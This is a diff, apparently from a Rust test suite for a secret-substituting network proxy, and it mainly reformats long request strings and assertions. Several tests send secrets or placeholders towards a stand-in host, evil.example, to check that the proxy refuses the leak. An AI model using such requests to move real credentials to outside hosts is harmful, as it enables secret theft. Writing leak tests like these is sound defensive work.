@@ -31,10 +31,7 @@ async fn plain(env: &Env, request: &str) -> String {
         .await
         .expect("connect proxy");
     let (line, rest) = request.split_once("\r\n").expect("request line");
-    let request = format!(
-        "{line}\r\nProxy-Authorization: Bearer {}\r\n{rest}",
-        env.token
-    );
+    let request = format!("{line}\r\nProxy-Authorization: Bearer {}\r\n{rest}", env.token);
     exchange(&mut s, &request).await
 }
 
@@ -42,7 +39,9 @@ async fn plain(env: &Env, request: &str) -> String {
 async fn leak_event(env: &Env, rule: &str) -> Option<iterion_netproxy::DecisionEvent> {
     let ev = env
         .event(|e| {
-            denied(e).is_some_and(|d| d.reason.as_deref() == Some("secret leak") && d.rule.as_deref() == Some(rule))
+            denied(e).is_some_and(|d| {
+                d.reason.as_deref() == Some("secret leak") && d.rule.as_deref() == Some(rule)
+            })
         })
         .await?;
     denied(&ev).cloned()
@@ -75,7 +74,9 @@ async fn plain_http_binding_substitutes_in_forward_requests() {
     assert_eq!(got.len(), 1);
     let head = &got[0].head;
     assert!(
-        head.starts_with(&format!("GET /v1/models?key={VALUE} HTTP/1.1\r\nHost: {authority}\r\n")),
+        head.starts_with(&format!(
+            "GET /v1/models?key={VALUE} HTTP/1.1\r\nHost: {authority}\r\n"
+        )),
         "origin form, the value substituted: {head}"
     );
     assert_eq!(header(head, "authorization"), Some("Bearer ghp_realvalue"));
@@ -100,7 +101,14 @@ async fn plain_http_binding_substitutes_in_forward_requests() {
         panic!("{ev:?}")
     };
     assert_eq!(
-        (secret.as_str(), host.as_str(), p, method.as_str(), path.as_str(), count),
+        (
+            secret.as_str(),
+            host.as_str(),
+            p,
+            method.as_str(),
+            path.as_str(),
+            count
+        ),
         ("MODEL_KEY", "127.0.0.1", port, "GET", "/v1/models", 2)
     );
 
@@ -126,7 +134,9 @@ async fn plain_http_binding_substitutes_in_forward_requests() {
     // The response is scrubbed: the value becomes the placeholder again.
     let resp = plain(
         &env,
-        &format!("GET http://{authority}/echo-secret HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n"),
+        &format!(
+            "GET http://{authority}/echo-secret HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n"
+        ),
     )
     .await;
     assert!(!resp.contains(VALUE), "{resp}");
@@ -175,7 +185,11 @@ async fn plain_http_binding_refuses_what_it_cannot_substitute_safely() {
     let ca = TestCa::new();
     let (port, seen) = plain_upstream().await;
     let (t, p) = local_model(&ca, port);
-    let other = SecretBinding::new("TLS_ONLY", "tls-only-secret-value", &[format!("127.0.0.1:{port}")]);
+    let other = SecretBinding::new(
+        "TLS_ONLY",
+        "tls-only-secret-value",
+        &[format!("127.0.0.1:{port}")],
+    );
     let other_ph = other.placeholder().to_owned();
     let env = start(t.binding(other), p).await;
     let authority = format!("127.0.0.1:{port}");
@@ -183,7 +197,9 @@ async fn plain_http_binding_refuses_what_it_cannot_substitute_safely() {
     // A Host header naming another host.
     let resp = plain(
         &env,
-        &format!("GET http://{authority}/ HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer {ph}\r\n\r\n"),
+        &format!(
+            "GET http://{authority}/ HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer {ph}\r\n\r\n"
+        ),
     )
     .await;
     assert_refused(&resp, "secret MODEL_KEY is not bound to evil.example");
@@ -329,7 +345,9 @@ async fn the_real_value_is_refused_towards_unbound_hosts_inside_tls() {
         .expect("handshake");
     let resp = exchange(
         &mut s,
-        &format!("GET / HTTP/1.1\r\nHost: {bound}\r\nAuthorization: Bearer {VALUE}\r\nConnection: close\r\n\r\n"),
+        &format!(
+            "GET / HTTP/1.1\r\nHost: {bound}\r\nAuthorization: Bearer {VALUE}\r\nConnection: close\r\n\r\n"
+        ),
     )
     .await;
     assert!(resp.starts_with("HTTP/1.1 200 OK\r\n"), "{resp}");
@@ -344,7 +362,9 @@ async fn the_real_value_is_refused_towards_unbound_hosts_in_plain_forwards() {
     let rule = UNBOUND;
     let resp = plain(
         &env,
-        &format!("GET http://evil.example:{port}/ HTTP/1.1\r\nHost: evil.example:{port}\r\nX-Key: {VALUE}\r\n\r\n"),
+        &format!(
+            "GET http://evil.example:{port}/ HTTP/1.1\r\nHost: evil.example:{port}\r\nX-Key: {VALUE}\r\n\r\n"
+        ),
     )
     .await;
     assert_refused(&resp, rule);
@@ -395,7 +415,10 @@ async fn the_real_value_is_refused_towards_unbound_hosts_in_raw_tunnels() {
         .await
         .expect("Denied");
     assert_eq!(d.secret.as_deref(), Some("GH_TOKEN"));
-    assert!(!contains(&seen.raw(), VALUE.as_bytes()), "the value never completes upstream");
+    assert!(
+        !contains(&seen.raw(), VALUE.as_bytes()),
+        "the value never completes upstream"
+    );
     // Without the value the tunnel flows.
     let mut s = env.connect(&format!("raw.example:{port}")).await;
     let resp = exchange(
@@ -417,7 +440,10 @@ async fn an_ip_binding_is_substituted_over_tls() {
         .upstream_root_pem(ca.pem.clone())
         .binding(binding);
     let env = start(t, placeholder).await;
-    let bundle = env.proxy.trust_bundle().expect("the bundle while inspection is active");
+    let bundle = env
+        .proxy
+        .trust_bundle()
+        .expect("the bundle while inspection is active");
     assert!(bundle.ca_pem.starts_with("-----BEGIN CERTIFICATE-----"));
     assert!(bundle.bundle_pem.ends_with(&bundle.ca_pem));
     let target = format!("127.0.0.1:{port}");
@@ -443,6 +469,9 @@ async fn an_ip_binding_is_substituted_over_tls() {
     assert!(resp.starts_with("HTTP/1.1 200 OK\r\n"), "{resp}");
     let got = seen.requests();
     assert_eq!(got.len(), 1);
-    assert_eq!(header(&got[0].head, "authorization"), Some("Bearer ghp_realvalue"));
+    assert_eq!(
+        header(&got[0].head, "authorization"),
+        Some("Bearer ghp_realvalue")
+    );
     assert_eq!(env.substitutions(), 1);
 }
